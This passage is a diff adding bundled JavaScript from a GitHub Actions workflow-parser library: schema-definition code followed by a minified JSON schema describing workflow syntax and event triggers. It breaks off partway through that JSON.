+            oneOfDefinition.oneOf.push(SEQUENCE_DEFINITION);
+            oneOfDefinition.oneOf.push(MAPPING_DEFINITION);
+            oneOfDefinition.oneOf.push(ONE_OF_DEFINITION);
+            schema.definitions[oneOfDefinition.key] = oneOfDefinition;
+            // null-definition
+            mappingDefinition = new MappingDefinition(NULL_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[NULL] = new PropertyDefinition(new StringToken(undefined, undefined, NULL_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // null-definition-properties
+            mappingDefinition = new MappingDefinition(NULL_DEFINITION_PROPERTIES);
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // boolean-definition
+            mappingDefinition = new MappingDefinition(BOOLEAN_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[BOOLEAN] = new PropertyDefinition(new StringToken(undefined, undefined, BOOLEAN_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // boolean-definition-properties
+            mappingDefinition = new MappingDefinition(BOOLEAN_DEFINITION_PROPERTIES);
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // number-definition
+            mappingDefinition = new MappingDefinition(NUMBER_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[NUMBER] = new PropertyDefinition(new StringToken(undefined, undefined, NUMBER_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // number-definition-properties
+            mappingDefinition = new MappingDefinition(NUMBER_DEFINITION_PROPERTIES);
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // string-definition
+            mappingDefinition = new MappingDefinition(STRING_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[STRING] = new PropertyDefinition(new StringToken(undefined, undefined, STRING_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // string-definition-properties
+            mappingDefinition = new MappingDefinition(STRING_DEFINITION_PROPERTIES);
+            mappingDefinition.properties[CONSTANT] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[IGNORE_CASE] = new PropertyDefinition(new StringToken(undefined, undefined, BOOLEAN, undefined));
+            mappingDefinition.properties[REQUIRE_NON_EMPTY] = new PropertyDefinition(new StringToken(undefined, undefined, BOOLEAN, undefined));
+            mappingDefinition.properties[IS_EXPRESSION] = new PropertyDefinition(new StringToken(undefined, undefined, BOOLEAN, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // sequence-definition
+            mappingDefinition = new MappingDefinition(SEQUENCE_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[SEQUENCE] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // sequence-definition-properties
+            mappingDefinition = new MappingDefinition(SEQUENCE_DEFINITION_PROPERTIES);
+            mappingDefinition.properties[ITEM_TYPE] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // mapping-definition
+            mappingDefinition = new MappingDefinition(MAPPING_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[MAPPING] = new PropertyDefinition(new StringToken(undefined, undefined, MAPPING_DEFINITION_PROPERTIES, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // mapping-definition-properties
+            mappingDefinition = new MappingDefinition(MAPPING_DEFINITION_PROPERTIES);
+            mappingDefinition.properties[PROPERTIES] = new PropertyDefinition(new StringToken(undefined, undefined, PROPERTIES, undefined));
+            mappingDefinition.properties[LOOSE_KEY_TYPE] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[LOOSE_VALUE_TYPE] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // properties
+            mappingDefinition = new MappingDefinition(PROPERTIES);
+            mappingDefinition.looseKeyType = NON_EMPTY_STRING;
+            mappingDefinition.looseValueType = PROPERTY_VALUE;
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // property-value
+            oneOfDefinition = new OneOfDefinition(PROPERTY_VALUE);
+            oneOfDefinition.oneOf.push(NON_EMPTY_STRING);
+            oneOfDefinition.oneOf.push(MAPPING_PROPERTY_VALUE);
+            schema.definitions[oneOfDefinition.key] = oneOfDefinition;
+            // mapping-property-value
+            mappingDefinition = new MappingDefinition(MAPPING_PROPERTY_VALUE);
+            mappingDefinition.properties[TYPE] = new PropertyDefinition(new StringToken(undefined, undefined, NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[REQUIRED] = new PropertyDefinition(new StringToken(undefined, undefined, BOOLEAN, undefined));
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // one-of-definition
+            mappingDefinition = new MappingDefinition(ONE_OF_DEFINITION);
+            mappingDefinition.properties[DESCRIPTION] = new PropertyDefinition(new StringToken(undefined, undefined, STRING, undefined));
+            mappingDefinition.properties[CONTEXT] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[ONE_OF] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            mappingDefinition.properties[ALLOWED_VALUES] = new PropertyDefinition(new StringToken(undefined, undefined, SEQUENCE_OF_NON_EMPTY_STRING, undefined));
+            schema.definitions[mappingDefinition.key] = mappingDefinition;
+            // non-empty-string
+            const stringDefinition = new StringDefinition(NON_EMPTY_STRING);
+            stringDefinition.requireNonEmpty = true;
+            schema.definitions[stringDefinition.key] = stringDefinition;
+            // sequence-of-non-empty-string
+            const sequenceDefinition = new SequenceDefinition(SEQUENCE_OF_NON_EMPTY_STRING);
+            sequenceDefinition.itemType = NON_EMPTY_STRING;
+            schema.definitions[sequenceDefinition.key] = sequenceDefinition;
+            schema.validate();
+            TemplateSchema._internalSchema = schema;
+        }
+        return TemplateSchema._internalSchema;
+    }
+}
+TemplateSchema._definitionNamePattern = /^[a-zA-Z_][a-zA-Z0-9_-]*$/;
+//# sourceMappingURL=template-schema.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/index.js
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflow-v1.0.min.json
+const workflow_v1_0_min_namespaceObject = /*#__PURE__*/JSON.parse('{"version":"workflow-v1.0","definitions":{"workflow-root":{"description":"A workflow file.","mapping":{"properties":{"on":"on","name":"workflow-name","description":"workflow-description","run-name":"run-name","defaults":"workflow-defaults","env":"workflow-env","permissions":"permissions","concurrency":"workflow-concurrency","jobs":{"type":"jobs","required":true}}}},"workflow-root-strict":{"description":"Workflow file with strict validation","mapping":{"properties":{"on":{"type":"on-strict","required":true},"name":"workflow-name","description":"workflow-description","run-name":"run-name","defaults":"workflow-defaults","env":"workflow-env","permissions":"permissions","concurrency":"workflow-concurrency","jobs":{"type":"jobs","required":true}}}},"workflow-name":{"description":"The name of the workflow that GitHub displays on your repository\'s \'Actions\' tab.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#name)","string":{}},"workflow-description":{"description":"A description for your workflow or reusable workflow","string":{}},"run-name":{"context":["github","inputs","vars"],"string":{},"description":"The name for workflow runs generated from the workflow. GitHub displays the workflow run name in the list of workflow runs on your repository\'s \'Actions\' tab.\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#run-name)"},"on":{"description":"The GitHub event that triggers the workflow. Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)","one-of":["string","sequence","on-mapping"]},"on-mapping":{"mapping":{"properties":{"workflow_call":"workflow-call"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"on-strict":{"description":"The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)","one-of":["on-string-strict","on-sequence-strict","on-mapping-strict"]},"on-mapping-strict":{"description":"The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).\\n\\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)","mapping":{"properties":{"branch_protection_rule":"branch-protection-rule","check_run":"check-run","check_suite":"check-suite","create":"create","delete":"delete","deployment":"deployment","deployment_status":"deployment-status","discussion":"discussion","discussion_comment":"discussion-comment","fork":"fork","gollum":"gollum","image_version":"image-version","issue_comment":"issue-comment","issues":"issues","label":"label","merge_group":"merge-group","milestone":"milestone","page_build":"page-build","project":"project","project_card":"project-card","project_column":"project-column","public":"public","pull_request":"pull-request","pull_request_comment":"pull-request-comment","pull_request_review":"pull-request-review","pull_request_review_comment":"pull-request-review-comment","pull_request_target":"pull-request-target","push":"push","registry_package":"registry-package","release":"release","repository_dispatch":"repository-dispatch","schedule":"schedule","status":"status","watch":"watch","workflow_call":"workflow-call","workflow_dispatch":"workflow-dispatch","workflow_run":"workflow-run"}}},"on-string-strict":{"one-of":["branch-protection-rule-string","check-run-string","check-suite-string","create-string","delete-string","deployment-string","deployment-status-string","discussion-string","discussion-comment-string","fork-string","gollum-string","image-version-string","issue-comment-string","issues-string","label-string","merge-group-string","milestone-string","page-build-string","project-string","project-card-string","project-column-string","public-string","pull-request-string","pull-request-comment-string","pull-request-review-string","pull-request-review-comment-string","pull-request-target-string","push-string","registry-package-string","release-string","repository-dispatch-string","schedule-string","status-string","watch-string","workflow-call-string","workflow-dispatch-string","workflow-run-string"]},"on-sequence-strict":{"sequence":{"item-type":"on-string-strict"}},"branch-protection-rule-string":{"description":"Runs your workflow when branch protection rules in the workflow repository are changed.","string":{"constant":"branch_protection_rule"}},"branch-protection-rule":{"description":"Runs your workflow when branch protection rules in the workflow repository are changed.","one-of":["null","branch-protection-rule-mapping"]},"branch-protection-rule-mapping":{"mapping":{"properties":{"types":"branch-protection-rule-activity"}}},"branch-protection-rule-activity":{"description":"The types of branch protection rule activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["branch-protection-rule-activity-type","branch-protection-rule-activity-types"]},"branch-protection-rule-activity-types":{"sequence":{"item-type":"branch-protection-rule-activity-type"}},"branch-protection-rule-activity-type":{"allowed-values":["created","edited","deleted"]},"check-run-string":{"description":"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.","string":{"constant":"check_run"}},"check-run":{"description":"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.","one-of":["null","check-run-mapping"]},"check-run-mapping":{"mapping":{"properties":{"types":"check-run-activity"}}},"check-run-activity":{"description":"The types of check run activity that trigger the workflow. Supported activity types: `created`, `rerequested`, `completed`, `requested_action`.","one-of":["check-run-activity-type","check-run-activity-types"]},"check-run-activity-types":{"sequence":{"item-type":"check-run-activity-type"}},"check-run-activity-type":{"allowed-values":["completed","created","rerequested","requested_action"]},"check-suite-string":{"description":"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.","string":{"constant":"check_suite"}},"check-suite":{"description":"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.","one-of":["null","check-suite-mapping"]},"check-suite-mapping":{"mapping":{"properties":{"types":"check-suite-activity"}}},"check-suite-activity":{"description":"The types of check suite activity that trigger the workflow. Supported activity types: `completed`.","one-of":["check-suite-activity-type","check-suite-activity-types"]},"check-suite-activity-types":{"sequence":{"item-type":"check-suite-activity-type"}},"check-suite-activity-type":{"allowed-values":["completed"]},"create-string":{"description":"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow\'s repository.","string":{"constant":"create"}},"create":{"description":"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow\'s repository.","null":{}},"delete-string":{"description":"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow\'s repository.","string":{"constant":"delete"}},"delete":{"description":"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow\'s repository.","null":{}},"deployment-string":{"description":"Runs your workflow when someone creates a deployment in the workflow\'s repository. Deployments created with a commit SHA may not have a Git ref.","string":{"constant":"deployment"}},"deployment":{"description":"Runs your workflow when someone creates a deployment in the workflow\'s repository. Deployments created with a commit SHA may not have a Git ref.","null":{}},"deployment-status-string":{"description":"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.","string":{"constant":"deployment_status"}},"deployment-status":{"description":"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.","null":{}},"discussion-string":{"description":"Runs your workflow when a discussion in the workflow\'s repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.","string":{"constant":"discussion"}},"discussion":{"description":"Runs your workflow when a discussion in the workflow\'s repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.","one-of":["null","discussion-mapping"]},"discussion-mapping":{"mapping":{"properties":{"types":"discussion-activity"}}},"discussion-activity":{"description":"The types of discussion activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `category_changed`, `answered`, `unanswered`.","one-of":["discussion-activity-type","discussion-activity-types"]},"discussion-activity-types":{"sequence":{"item-type":"discussion-activity-type"}},"discussion-activity-type":{"allowed-values":["created","edited","deleted","transferred","pinned","unpinned","labeled","unlabeled","locked","unlocked","category_changed","answered","unanswered"]},"discussion-comment-string":{"description":"Runs your workflow when a comment on a discussion in the workflow\'s repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.","string":{"constant":"discussion_comment"}},"discussion-comment":{"description":"Runs your workflow when a comment on a discussion in the workflow\'s repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.","one-of":["null","discussion-comment-mapping"]},"discussion-comment-mapping":{"mapping":{"properties":{"types":"discussion-comment-activity"}}},"discussion-comment-activity":{"description":"The types of discussion comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["discussion-comment-activity-type","discussion-comment-activity-types"]},"discussion-comment-activity-types":{"sequence":{"item-type":"discussion-comment-activity-type"}},"discussion-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"fork-string":{"description":"Runs your workflow when someone forks a repository.","string":{"constant":"fork"}},"fork":{"description":"Runs your workflow when someone forks a repository.","null":{}},"gollum-string":{"description":"Runs your workflow when someone creates or updates a Wiki page.","string":{"constant":"gollum"}},"gollum":{"description":"Runs your workflow when someone creates or updates a Wiki page.","null":{}},"image-version-string":{"description":"Runs your workflow when an image version is created or changes state.","string":{"constant":"image_version"}},"image-version":{"description":"Runs your workflow when an image version is created or changes state.","one-of":["null","image-version-mapping"]},"image-version-mapping":{"mapping":{"properties":{"types":"image-version-activity","names":"event-names","versions":"event-versions"}}},"image-version-activity":{"description":"The types of image version activity that trigger the workflow. Supported activity types: `created`, `ready`, `deleted`.","one-of":["image-version-activity-type","image-version-activity-types"]},"image-version-activity-types":{"sequence":{"item-type":"image-version-activity-type"}},"image-version-activity-type":{"allowed-values":["created","ready","deleted"]},"issue-comment-string":{"description":"Runs your workflow when an issue or pull request comment is created, edited, or deleted.","string":{"constant":"issue_comment"}},"issue-comment":{"description":"Runs your workflow when an issue or pull request comment is created, edited, or deleted.","one-of":["null","issue-comment-mapping"]},"issue-comment-mapping":{"mapping":{"properties":{"types":"issue-comment-activity"}}},"issue-comment-activity":{"description":"The types of issue comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["issue-comment-activity-type","issue-comment-activity-types"]},"issue-comment-activity-types":{"sequence":{"item-type":"issue-comment-activity-type"}},"issue-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"issues-string":{"description":"Runs your workflow when an issue in the workflow\'s repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.","string":{"constant":"issues"}},"issues":{"description":"Runs your workflow when an issue in the workflow\'s repository is created or modified. For activity related to comments in an issue, use the `issue_comment` event.","one-of":["null","issues-mapping"]},"issues-mapping":{"mapping":{"properties":{"types":"issues-activity"}}},"issues-activity":{"description":"The types of issue activity that trigger the workflow. Supported activity types: `opened`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `closed`, `reopened`, `assigned`, `unassigned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `milestoned`, `demilestoned`, `field_added`, `field_removed`, `typed`, `untyped`.","one-of":["issues-activity-type","issues-activity-types"]},"issues-activity-types":{"sequence":{"item-type":"issues-activity-type"}},"issues-activity-type":{"allowed-values":["opened","edited","deleted","transferred","pinned","unpinned","closed","reopened","assigned","unassigned","labeled","unlabeled","locked","unlocked","milestoned","demilestoned","field_added","field_removed","typed","untyped"]},"label-string":{"description":"Runs your workflow when a label in your workflow\'s repository is created or modified.","string":{"constant":"label"}},"label":{"description":"Runs your workflow when a label in your workflow\'s repository is created or modified.","one-of":["null","label-mapping"]},"label-mapping":{"mapping":{"properties":{"types":"label-activity"}}},"label-activity":{"description":"The types of label activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["label-activity-type","label-activity-types"]},"label-activity-types":{"sequence":{"item-type":"label-activity-type"}},"label-activity-type":{"allowed-values":["created","edited","deleted"]},"merge-group-string":{"description":"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.","string":{"constant":"merge_group"}},"merge-group":{"description":"Runs your workflow when a pull request is added to a merge queue, which adds the pull request to a merge group.","one-of":["null","merge-group-mapping"]},"merge-group-mapping":{"mapping":{"properties":{"types":"merge-group-activity","branches":"event-branches","branches-ignore":"event-branches-ignore"}}},"merge-group-activity":{"description":"The types of merge group activity that trigger the workflow. Supported activity types: `checks_requested`.","one-of":["merge-group-activity-type","merge-group-activity-types"]},"merge-group-activity-types":{"sequence":{"item-type":"merge-group-activity-type"}},"merge-group-activity-type":{"allowed-values":["checks_requested"]},"milestone-string":{"description":"Runs your workflow when a milestone in the workflow\'s repository is created or modified.","string":{"constant":"milestone"}},"milestone":{"description":"Runs your workflow when a milestone in the workflow\'s repository is created or modified.","one-of":["null","milestone-mapping"]},"milestone-mapping":{"mapping":{"properties":{"types":"milestone-activity"}}},"milestone-activity":{"description":"The types of milestone activity that trigger the workflow. Supported activity types: `created`, `closed`, `opened`, `edited`, `deleted`.","one-of":["milestone-activity-type","milestone-activity-types"]},"milestone-activity-types":{"sequence":{"item-type":"milestone-activity-type"}},"milestone-activity-type":{"allowed-values":["created","closed","opened","edited","deleted"]},"page-build-string":{"description":"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.","string":{"constant":"page_build"}},"page-build":{"description":"Runs your workflow when someone pushes to a branch that is the publishing source for GitHub Pages, if GitHub Pages is enabled for the repository.","null":{}},"project-string":{"description":"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.","string":{"constant":"project"}},"project":{"description":"Runs your workflow when a project board is created or modified. For activity related to cards or columns in a project board, use the `project_card` or `project_column` events instead.","one-of":["null","project-mapping"]},"project-mapping":{"mapping":{"properties":{"types":"project-activity"}}},"project-activity":{"description":"The types of project activity that trigger the workflow. Supported activity types: `created`, `closed`, `reopened`, `edited`, `deleted`.","one-of":["project-activity-type","project-activity-types"]},"project-activity-types":{"sequence":{"item-type":"project-activity-type"}},"project-activity-type":{"allowed-values":["created","closed","reopened","edited","deleted"]},"project-card-string":{"description":"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.","string":{"constant":"project_card"}},"project-card":{"description":"Runs your workflow when a card on a project board is created or modified. For activity related to project boards or columns in a project board, use the `project` or `project_column` event instead.","one-of":["null","project-card-mapping"]},"project-card-mapping":{"mapping":{"properties":{"types":"project-card-activity"}}},"project-card-activity":{"description":"The types of project card activity that trigger the workflow. Supported activity types: `created`, `moved`, `converted`, `edited`, `deleted`.","one-of":["project-card-activity-type","project-card-activity-types"]},"project-card-activity-types":{"sequence":{"item-type":"project-card-activity-type"}},"project-card-activity-type":{"allowed-values":["created","moved","converted","edited","deleted"]},"project-column-string":{"description":"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.","string":{"constant":"project_column"}},"project-column":{"description":"Runs your workflow when a column on a project board is created or modified. For activity related to project boards or cards in a project board, use the `project` or `project_card` event instead.","one-of":["null","project-column-mapping"]},"project-column-mapping":{"mapping":{"properties":{"types":"project-column-activity"}}},"project-column-activity":{"description":"The types of project column activity that trigger the workflow. Supported activity types: `created`, `updated`, `moved`, `deleted`.","one-of":["project-column-activity-type","project-column-activity-types"]},"project-column-activity-types":{"sequence":{"item-type":"project-column-activity-type"}},"project-column-activity-type":{"allowed-values":["created","updated","moved","deleted"]},"public-string":{"description":"Runs your workflow when your workflow\'s repository changes from private to public.","string":{"constant":"public"}},"public":{"description":"Runs your workflow when your workflow\'s repository changes from private to public.","null":{}},"pull-request-string":{"description":"Runs your workflow when activity on a pull request in the workflow\'s repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.","string":{"constant":"pull_request"}},"pull-request":{"description":"Runs your workflow when activity on a pull request in the workflow\'s repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.","one-of":["null","pull-request-mapping"]},"pull-request-mapping":{"mapping":{"properties":{"types":"pull-request-activity","branches":"event-branches","branches-ignore":"event-branches-ignore","paths":"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-activity":{"description":"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-activity-type","pull-request-activity-types"]},"pull-request-activity-types":{"sequence":{"item-type":"pull-request-activity-type"}},"pull-request-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"pull-request-comment-string":{"description":"Please use the `issue_comment` event instead.","string":{"constant":"pull_request_comment"}},"pull-request-comment":{"description":"Please use the `issue_comment` event instead.","one-of":["null","issue-comment-mapping"]},"pull-request-review-string":{"description":"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.","string":{"constant":"pull_request_review"}},"pull-request-review":{"description":"Runs your workflow when a pull request review is submitted, edited, or dismissed. A pull request review is a group of pull request review comments in addition to a body comment and a state. For activity related to pull request review comments or pull request comments, use the `pull_request_review_comment` or `issue_comment` events instead.","one-of":["null","pull-request-review-mapping"]},"pull-request-review-mapping":{"mapping":{"properties":{"types":"pull-request-review-activity"}}},"pull-request-review-activity":{"description":"The types of pull request review activity that trigger the workflow. Supported activity types: `submitted`, `edited`, `dismissed`.","one-of":["pull-request-review-activity-type","pull-request-review-activity-types"]},"pull-request-review-activity-types":{"sequence":{"item-type":"pull-request-review-activity-type"}},"pull-request-review-activity-type":{"allowed-values":["submitted","edited","dismissed"]},"pull-request-review-comment-string":{"description":"","string":{"constant":"pull_request_review_comment"}},"pull-request-review-comment":{"description":"","one-of":["null","pull-request-review-comment-mapping"]},"pull-request-review-comment-mapping":{"mapping":{"properties":{"types":"pull-request-review-comment-activity"}}},"pull-request-review-comment-activity":{"description":"The types of pull request review comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["pull-request-review-comment-activity-type","pull-request-review-comment-activity-types"]},"pull-request-review-comment-activity-types":{"sequence":{"item-type":"pull-request-review-comment-activity-type"}},"pull-request-review-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"pull-request-target-string":{"description":"Runs your workflow when activity on a pull request in the workflow\'s repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\\n\\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.","string":{"constant":"pull_request_target"}},"pull-request-target":{"description":"Runs your workflow when activity on a pull request in the workflow\'s repository occurs. If no activity types are specified, the workflow runs when a pull request is opened, reopened, or when the head branch of the pull request is updated.\\n\\nThis event runs in the context of the base of the pull request, rather than in the context of the merge commit, as the `pull_request` event does. This prevents execution of unsafe code from the head of the pull request that could alter your repository or steal any secrets you use in your workflow. This event allows your workflow to do things like label or comment on pull requests from forks. Avoid using this event if you need to build or run code from the pull request.","one-of":["null","pull-request-target-mapping"]},"pull-request-target-mapping":{"mapping":{"properties":{"types":"pull-request-target-activity","branches":"event-branches","branches-ignore":"event-branches-ignore","paths":"event-paths","paths-ignore":"event-paths-ignore"}}},"pull-request-target-activity":{"description":"The types of pull request activity that trigger the workflow. Supported activity types: `assigned`, `unassigned`, `labeled`, `unlabeled`, `opened`, `edited`, `closed`, `reopened`, `synchronize`, `converted_to_draft`, `locked`, `unlocked`, `enqueued`, `dequeued`, `milestoned`, `demilestoned`, `ready_for_review`, `review_requested`, `review_request_removed`, `auto_merge_enabled`, `auto_merge_disabled`, `stacked`.","one-of":["pull-request-target-activity-type","pull-request-target-activity-types"]},"pull-request-target-activity-types":{"sequence":{"item-type":"pull-request-target-activity-type"}},"pull-request-target-activity-type":{"allowed-values":["assigned","unassigned","labeled","unlabeled","opened","edited","closed","reopened","synchronize","converted_to_draft","locked","unlocked","enqueued","dequeued","milestoned","demilestoned","ready_for_review","review_requested","review_request_removed","auto_merge_enabled","auto_merge_disabled","stacked"]},"push-string":{"description":"Runs your workflow when you push a commit or tag.","string":{"constant":"push"}},"push":{"description":"Runs your workflow when you push a commit or tag.","one-of":["null","push-mapping"]},"push-mapping":{"mapping":{"properties":{"branches":"event-branches","branches-ignore":"event-branches-ignore","tags":"event-tags","tags-ignore":"event-tags-ignore","paths":"event-paths","paths-ignore":"event-paths-ignore"}}},"registry-package-string":{"description":"Runs your workflow when activity related to GitHub Packages occurs in your repository.","string":{"constant":"registry_package"}},"registry-package":{"description":"Runs your workflow when activity related to GitHub Packages occurs in your repository.","one-of":["null","registry-package-mapping"]},"registry-package-mapping":{"mapping":{"properties":{"types":"registry-package-activity"}}},"registry-package-activity":{"description":"The types of registry package activity that trigger the workflow. Supported activity types: `published`, `updated`.","one-of":["registry-package-activity-type","registry-package-activity-types"]},"registry-package-activity-types":{"sequence":{"item-type":"registry-package-activity-type"}},"registry-package-activity-type":{"allowed-values":["published","updated"]},"release-string":{"description":"Runs your workflow when release activity in your repository occurs.","string":{"constant":"release"}},"release":{"description":"Runs your workflow when release activity in your repository occurs.","one-of":["null","release-mapping"]},"release-mapping":{"mapping":{"properties":{"types":"release-activity"}}},"release-activity":{"description":"The types of release activity that trigger the workflow. Supported activity types: `published`, `unpublished`, `created`, `edited`, `deleted`, `prereleased`, 